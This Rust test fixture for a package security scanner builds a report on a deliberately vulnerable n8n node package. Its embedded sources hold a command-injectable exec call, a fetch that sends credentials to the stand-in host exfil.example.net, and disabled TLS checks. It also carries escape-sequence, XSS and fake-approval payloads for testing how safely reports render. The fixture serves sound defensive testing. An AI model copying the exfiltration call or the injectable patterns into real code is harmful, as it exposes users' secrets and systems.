//! A hand-built `ScanReport` for a realistic (and realistically bad) n8n community node
//! package, `n8n-nodes-acme-shell@1.4.2`, with every feature a report has to render.
//!
//! Locations are computed from real source text with `Location::from_offsets`, so lines,
//! columns and snippets are what the analyzers would produce.

use portcullis_core::finding::assign_fingerprints;
use portcullis_core::*;
use std::collections::BTreeMap;

pub const SHELL_NODE_PATH: &str = "nodes/ShellExec/ShellExec.node.js";
pub const SHELL_NODE: &str = r#"const { exec } = require('child_process');
const { promisify } = require('util');
const run = promisify(exec);

class ShellExec {
	description = { displayName: 'Shell Exec', name: 'shellExec', group: ['transform'] };

	async execute() {
		const items = this.getInputData();
		const out = [];
		for (let i = 0; i < items.length; i++) {
			const host = this.getNodeParameter('host', i);
			const cmd = `ping -c 1 ${host}`;
			const { stdout } = await run(cmd);
			out.push({ json: { stdout } });
		}
		return [out];
	}
}
module.exports = { ShellExec };
"#;

pub const GENERIC_FUNCTIONS_PATH: &str = "nodes/AcmeApi/GenericFunctions.js";
pub const GENERIC_FUNCTIONS: &str = r#"const https = require('https');

const agent = new https.Agent({ rejectUnauthorized: false });

async function acmeApiRequest(method, endpoint, body) {
	const credentials = await this.getCredentials('acmeApi');
	await fetch('https://exfil.example.net/collect', { method: 'POST', body: JSON.stringify(credentials) });
	return this.helpers.request({ method, uri: `https://api.acme.io/v1${endpoint}`, body, json: true, agent });
}
module.exports = { acmeApiRequest };
"#;

pub const CREDENTIALS_PATH: &str = "credentials/AcmeApi.credentials.js";
/// The real file holds a live key; the snippet below is what the secrets analyzer reports
/// (it redacts before the finding is built).
pub const CREDENTIALS: &str = r#"class AcmeApi {
	name = 'acmeApi';
	displayName = 'Acme API';
	properties = [
		{ displayName: 'Access Key', name: 'accessKeyId', type: 'string', default: 'AKIA…[redacted sha256:5f1c2a9e]' },
	];
}
module.exports = { AcmeApi };
"#;

pub const TEMPLATE_PATH: &str = "nodes/Legacy/template.js";
pub const TEMPLATE: &str = "module.exports = (expr) => eval(expr);\n";

pub const PACKAGE_JSON: &str = r#"{
  "name": "n8n-nodes-acme-shell",
  "version": "1.4.2",
  "scripts": {
    "postinstall": "node scripts/setup.js"
  },
  "n8n": { "nodes": ["dist/nodes/ShellExec/ShellExec.node.js"] }
}
"#;

pub const LOCKFILE: &str = r#"{
  "name": "n8n-nodes-acme-shell",
  "lockfileVersion": 3,
  "packages": {
    "node_modules/axios": {
      "version": "0.21.1",
      "resolved": "https://registry.npmjs.org/axios/-/axios-0.21.1.tgz"
    }
  }
}
"#;

fn at(path: &str, text: &str, needle: &str) -> Location {
    let start = text
        .find(needle)
        .unwrap_or_else(|| panic!("fixture: `{needle}` not in {path}"));
    Location::from_offsets(path, text, start, start + needle.len())
}

fn rule(
    id: &str,
    name: &str,
    category: Category,
    sev: Severity,
    short: &str,
    cwe: &[u32],
) -> RuleMeta {
    RuleMeta {
        id: id.into(),
        name: name.into(),
        category,
        default_severity: sev,
        short_description: short.into(),
        help: format!(
            "## What it does\n\n{short}.\n\n## Why is this bad?\n\nAn attacker controls it.\n\n## Example\n\n```js\nexec(`ping ${{host}}`);\n```\n\nUse instead:\n\n```js\nexecFile('ping', ['-c', '1', host]);\n```\n\n## References\n\n- CWE-{}\n",
            cwe.first().copied().unwrap_or(0)
        ),
        cwe: cwe.to_vec(),
        references: vec![format!(
            "https://cwe.mitre.org/data/definitions/{}.html",
            cwe.first().copied().unwrap_or(0)
        )],
    }
}

pub fn components() -> Vec<Component> {
    let c = |name: &str,
             version: Option<&str>,
             direct: bool,
             scope: DependencyScope,
             path: &[&str],
             integrity: Option<&str>,
             license: Option<&str>,
             source: Option<&str>| Component {
        ecosystem: Ecosystem::Npm,
        name: name.into(),
        version: version.map(Into::into),
        requested: if direct { Some("^0.21.0".into()) } else { None },
        direct,
        scope,
        path: path.iter().map(|s| s.to_string()).collect(),
        found_in: "package-lock.json".into(),
        source: source.map(Into::into),
        license: license.map(Into::into),
        integrity: integrity.map(Into::into),
    };
    vec![
        c(
            "axios",
            Some("0.21.1"),
            true,
            DependencyScope::Runtime,
            &["n8n-nodes-acme-shell", "axios"],
            Some(
                "sha512-VyhIegrNJ30IEFj3Z3aW5QaMLRBgTzsVP/eO7+vLrlqz0tuQUMzYOvBbk7s5XtuUZbbgWPURpfUS5oaMBQk+kg==",
            ),
            Some("MIT"),
            None,
        ),
        c(
            "follow-redirects",
            Some("1.14.0"),
            false,
            DependencyScope::Runtime,
            &["n8n-nodes-acme-shell", "axios", "follow-redirects"],
            Some(
                "sha512-HIcMCBYxpeVyXPSVdZ1EFK9UBYbjdQQX/zwR6Ui1jmgXNBd3FAtLwqYpiitcxr4ZrAgyTlHNyyt39hlHRxbNkA==",
            ),
            Some("MIT"),
            None,
        ),
        c(
            "n8n-workflow",
            Some("1.0.0"),
            true,
            DependencyScope::Peer,
            &["n8n-nodes-acme-shell", "n8n-workflow"],
            Some(
                "sha512-YbSbXexNwXDfYoXTExvdSE5QOINRW5AavCz+0Kz8ccME/UeCZ0RWWzLw9w9Cb/rK/kah5pQVKOeNyqhSUYRPhA==",
            ),
            Some("SEE LICENSE IN LICENSE.md"),
            None,
        ),
        c(
            "typescript",
            Some("5.4.5"),
            true,
            DependencyScope::Dev,
            &["n8n-nodes-acme-shell", "typescript"],
            Some(
                "sha512-V54nfxLA5BgXCvTBXabRnz8rBZGtOykK5k1oIRKRgNH2r3RPcsTTL8ssPZ+XycFdCX40hgSk14PZRT+EiWQjPQ==",
            ),
            Some("Apache-2.0"),
            None,
        ),
        c(
            "@types/node",
            Some("20.0.0"),
            true,
            DependencyScope::Dev,
            &["n8n-nodes-acme-shell", "@types/node"],
            Some(
                "sha512-Q6AfQGUhXQKzMqHNwVW6MbdrOZApTfzNETURDo9p+AUdvHSlPOVN3kUsdml5+z4PKfZuHkQFfVDhc59iHes1Hg==",
            ),
            Some("MIT"),
            None,
        ),
        c(
            "acme-utils",
            Some("0.3.0"),
            true,
            DependencyScope::Runtime,
            &["n8n-nodes-acme-shell", "acme-utils"],
            None,
            None,
            Some("git+https://github.com/acme/acme-utils.git#8d5c0f1"),
        ),
        // Listed again from node_modules: must be de-duplicated in the SBOM.
        Component {
            found_in: "node_modules/axios/package.json".into(),
            ..c(
                "axios",
                Some("0.21.1"),
                true,
                DependencyScope::Runtime,
                &["n8n-nodes-acme-shell", "axios"],
                None,
                Some("MIT"),
                None,
            )
        },
    ]
}

pub fn report() -> ScanReport {
    // 1. Command injection with a 3-step taint trace.
    let mut findings = vec![
        Finding::new(
            "js/command-injection",
            Category::Code,
            Severity::Critical,
            "Node parameter `host` flows into a shell command executed by child_process.exec",
            at(SHELL_NODE_PATH, SHELL_NODE, "run(cmd)"),
        )
        .with_cwe(78)
        .with_remediation(
            "Use execFile/spawn with an argument array and validate `host` against a hostname pattern.",
        )
        .with_reference("https://cwe.mitre.org/data/definitions/78.html")
        .with_evidence(
            at(SHELL_NODE_PATH, SHELL_NODE, "this.getNodeParameter('host', i)"),
            "source: n8n node parameter `host` (user-controlled)",
        )
        .with_evidence(
            at(SHELL_NODE_PATH, SHELL_NODE, "`ping -c 1 ${host}`"),
            "`host` is interpolated into the template literal assigned to `cmd`",
        )
        .with_evidence(
            at(SHELL_NODE_PATH, SHELL_NODE, "run(cmd)"),
            "sink: `run` = promisify(child_process.exec) runs `cmd` in a shell",
        )
        .with_property("sink", "child_process.exec"),
    ];

    // 2. A redacted secret.
    findings.push(
        Finding::new(
            "secrets/aws-access-key-id",
            Category::Secret,
            Severity::High,
            "AWS access key id AKIA…[redacted sha256:5f1c2a9e] hard-coded as a credential default",
            at(
                CREDENTIALS_PATH,
                CREDENTIALS,
                "AKIA…[redacted sha256:5f1c2a9e]",
            ),
        )
        .with_cwe(798)
        .with_remediation("Revoke the key in AWS IAM now, then remove the default value.")
        .with_fingerprint_key("sha256:5f1c2a9e4b7d")
        .with_property("secret_sha256_prefix", "5f1c2a9e"),
    );

    // 3. A vulnerable dependency with properties.
    findings.push(
        Finding::new(
            "deps/vulnerable-dependency",
            Category::Dependency,
            Severity::High,
            "axios@0.21.1 is affected by GHSA-cph5-m8f7-6c5x (Inefficient Regular Expression Complexity in axios); fixed in 0.21.2",
            at("package-lock.json", LOCKFILE, "\"node_modules/axios\""),
        )
        .with_cwe(1333)
        .with_remediation("Upgrade axios to 0.21.2 or later.")
        .with_reference("https://osv.dev/vulnerability/GHSA-cph5-m8f7-6c5x")
        .with_fingerprint_key("axios@GHSA-cph5-m8f7-6c5x")
        // The property names the deps analyzer emits.
        .with_property(
            "advisory_ids",
            serde_json::json!(["GHSA-cph5-m8f7-6c5x", "CVE-2021-3749"]),
        )
        .with_property("primary_advisory", "GHSA-cph5-m8f7-6c5x")
        .with_property("ecosystem", "npm")
        .with_property("package", "axios")
        .with_property("installed_version", "0.21.1")
        .with_property("purl", "pkg:npm/axios@0.21.1")
        .with_property(
            "dependency_path",
            serde_json::json!(["n8n-nodes-acme-shell", "axios"]),
        )
        .with_property("direct", true)
        .with_tag("vulnerability"),
    );

    // 4. Undeclared egress.
    findings.push(
        Finding::new(
            "capability/undeclared-egress",
            Category::Capability,
            Severity::High,
            "Code sends data to exfil.example.net, a host the manifest never declares",
            at(
                GENERIC_FUNCTIONS_PATH,
                GENERIC_FUNCTIONS,
                "fetch('https://exfil.example.net/collect'",
            ),
        )
        .with_cwe(200)
        .with_remediation("Remove the call, or declare the host so reviewers can approve it."),
    );

    // 5. A finding with a mechanical fix.
    let tls_start = GENERIC_FUNCTIONS
        .find("rejectUnauthorized: false")
        .expect("fixture");
    let false_start = tls_start + "rejectUnauthorized: ".len();
    findings.push(
        Finding::new(
            "js/tls-verification-disabled",
            Category::Code,
            Severity::Medium,
            "TLS certificate verification is disabled (rejectUnauthorized: false)",
            at(
                GENERIC_FUNCTIONS_PATH,
                GENERIC_FUNCTIONS,
                "rejectUnauthorized: false",
            ),
        )
        .with_cwe(295)
        .with_remediation(
            "Remove `rejectUnauthorized: false`; trust a private CA with `ca` instead.",
        )
        .with_fix(Fix {
            description: "Enable certificate verification".into(),
            replacements: vec![Replacement {
                path: GENERIC_FUNCTIONS_PATH.into(),
                start: false_start,
                end: false_start + "false".len(),
                text: "true".into(),
            }],
        }),
    );

    // 6. Suppressed inline.
    let mut suppressed = Finding::new(
        "js/dynamic-code",
        Category::Code,
        Severity::High,
        "eval() of a value that is not a constant",
        at(TEMPLATE_PATH, TEMPLATE, "eval(expr)"),
    )
    .with_cwe(95);
    suppressed.suppression = Some(Suppression {
        kind: SuppressionKind::Inline,
        justification: "expr is a constant from the node description, never user input".into(),
    });
    findings.push(suppressed);

    // 7. Unchanged since the baseline.
    let mut unchanged = Finding::new(
        "supply-chain/install-script",
        Category::SupplyChain,
        Severity::Medium,
        "package.json declares a postinstall script: node scripts/setup.js",
        at(
            "package.json",
            PACKAGE_JSON,
            "\"postinstall\": \"node scripts/setup.js\"",
        ),
    )
    .with_cwe(506);
    unchanged.baseline_state = Some(BaselineState::Unchanged);
    findings.push(unchanged);

    for f in findings.iter_mut() {
        if f.baseline_state.is_none() {
            f.baseline_state = Some(BaselineState::New);
        }
    }
    assign_fingerprints(&mut findings);
    findings.sort_by(|a, b| a.sort_key().cmp(&b.sort_key()));

    let fp = |rule: &str| {
        findings
            .iter()
            .find(|f| f.rule_id == rule)
            .map(|f| f.fingerprint.clone())
            .unwrap_or_default()
    };
    let mut decision = Decision::approve();
    decision.push(Reason {
        policy: "fail-on-severity".into(),
        outcome: Outcome::Reject,
        message: "1 critical finding at or above the `high` threshold (js/command-injection)"
            .into(),
        remediation: Some("Fix or waive the critical finding, then rescan.".into()),
        findings: vec![fp("js/command-injection")],
    });
    decision.push(Reason {
        policy: "undeclared-egress".into(),
        outcome: Outcome::Quarantine,
        message: "Code reaches 1 host the manifest does not declare".into(),
        remediation: Some("Declare exfil.example.net or remove the call.".into()),
        findings: vec![fp("capability/undeclared-egress")],
    });
    decision.required_reviewers = vec!["security-champion".into()];

    let mut declared = CapabilitySet::new();
    declared.add(
        Capability::NetworkEgress {
            channel: Channel::BackendHttp,
            host: HostPattern::Exact("api.acme.io".into()),
        },
        Evidence {
            path: "package.json".into(),
            line: None,
            source: "n8n.credentials".into(),
        },
    );
    let mut observed = CapabilitySet::new();
    observed.add(
        Capability::NetworkEgress {
            channel: Channel::BackendHttp,
            host: HostPattern::Exact("exfil.example.net".into()),
        },
        Evidence {
            path: GENERIC_FUNCTIONS_PATH.into(),
            line: Some(7),
            source: "js/cap-fetch".into(),
        },
    );
    observed.add(
        Capability::ChildProcess { command: None },
        Evidence {
            path: SHELL_NODE_PATH.into(),
            line: Some(1),
            source: "js/cap-child-process".into(),
        },
    );

    let mut analyzer_ms = BTreeMap::new();
    analyzer_ms.insert("deps".to_string(), 40);
    analyzer_ms.insert("js".to_string(), 812);
    analyzer_ms.insert("secrets".to_string(), 95);

    let mut properties = BTreeMap::new();
    properties.insert("vulndb_date".to_string(), serde_json::json!("2026-11-20"));

    ScanReport {
        schema_version: REPORT_SCHEMA_VERSION.into(),
        tool: ToolInfo {
            name: "portcullis".into(),
            version: "0.1.0".into(),
        },
        target: TargetInfo {
            source: "n8n-nodes-acme-shell-1.4.2.tgz".into(),
            origin: Origin::Tarball,
            sha256: "9f2c6a1e0b3d4c5f6a7b8c9d0e1f2a3b4c5d6e7f8091a2b3c4d5e6f708192a3b".into(),
            files: 37,
            bytes: 184_320,
        },
        extension: Some(Extension {
            platform: Platform::N8n,
            name: "n8n-nodes-acme-shell".into(),
            version: Some("1.4.2".into()),
            description: Some("Run shell commands and call the Acme API from n8n".into()),
            manifest_path: "package.json".into(),
            entry_points: vec![SHELL_NODE_PATH.into()],
            declared,
        }),
        findings,
        observed,
        components: components(),
        decision,
        rules: vec![
            rule(
                "js/command-injection",
                "Command injection",
                Category::Code,
                Severity::High,
                "User-controlled data reaches a shell command",
                &[78],
            ),
            rule(
                "js/tls-verification-disabled",
                "TLS verification disabled",
                Category::Code,
                Severity::Medium,
                "TLS certificate verification is turned off",
                &[295],
            ),
            rule(
                "secrets/aws-access-key-id",
                "AWS access key id",
                Category::Secret,
                Severity::High,
                "A hard-coded AWS access key id",
                &[798],
            ),
            // deps/, capability/, supply-chain/ and js/dynamic-code have no metadata here on
            // purpose: SARIF must synthesise descriptors for them.
        ],
        notices: vec![
            Notice {
                kind: portcullis_core::NoticeKind::General,
                level: NoticeLevel::Warning,
                path: Some("dist/bundle.min.js".into()),
                message: "skipped: file is larger than the 2 MiB analysis limit".into(),
            },
            Notice {
                kind: portcullis_core::NoticeKind::General,
                level: NoticeLevel::Info,
                path: None,
                message: "vulnerability database from 2026-11-20".into(),
            },
        ],
        properties,
        stats: ScanStats {
            duration_ms: 1234,
            files_analyzed: 37,
            analyzer_ms,
        },
    }
}

/// The fixture with hostile text in every place a package can put it.
pub fn hostile_report() -> ScanReport {
    let mut r = report();
    let evil_path = "nodes/\x1b]0;owned\x07\x1b[2K\rApproved.node.js";
    let evil_text =
        "const x = 1; // \x1b[1A\x1b[2K\u{9b}32mAPPROVE\u{202e}<script>alert(1)</script>\n";
    let loc = Location::from_offsets(evil_path, evil_text, 0, 5);
    r.findings.push(
        Finding::new(
            "js/dynamic-code",
            Category::Code,
            Severity::High,
            "call to <img src=x onerror=alert(1)> | [click](https://evil.example) \x1b[32mok\x1b[0m\nDecision: APPROVE",
            loc.clone(),
        )
        .with_remediation("see `x` | <b>bold</b> \x07"),
    );
    r.notices.push(Notice {
        kind: portcullis_core::NoticeKind::General,
        level: NoticeLevel::Error,
        path: Some(evil_path.into()),
        message: "parse error near \x1b[31m".into(),
    });
    if let Some(ext) = r.extension.as_mut() {
        ext.name = "n8n-nodes-\x1b[8mhidden".into();
    }
    r
}

/// `n` findings spread over a few rules and files, for the caps.
pub fn many_findings_report(n: usize) -> ScanReport {
    let mut r = report();
    let text = "const a = eval(input);\n".repeat(50);
    for i in 0..n {
        let path = format!("dist/chunk-{}.js", i % 20);
        let start = (i % 50) * 23 + 10;
        let f = Finding::new(
            if i % 3 == 0 {
                "js/dynamic-code"
            } else {
                "js/prototype-pollution"
            },
            Category::Code,
            if i % 2 == 0 {
                Severity::High
            } else {
                Severity::Low
            },
            format!("finding number {i}"),
            Location::from_offsets(path, &text, start, start + 11),
        );
        r.findings.push(f);
    }
    assign_fingerprints(&mut r.findings);
    r.findings.sort_by(|a, b| a.sort_key().cmp(&b.sort_key()));
    r
}
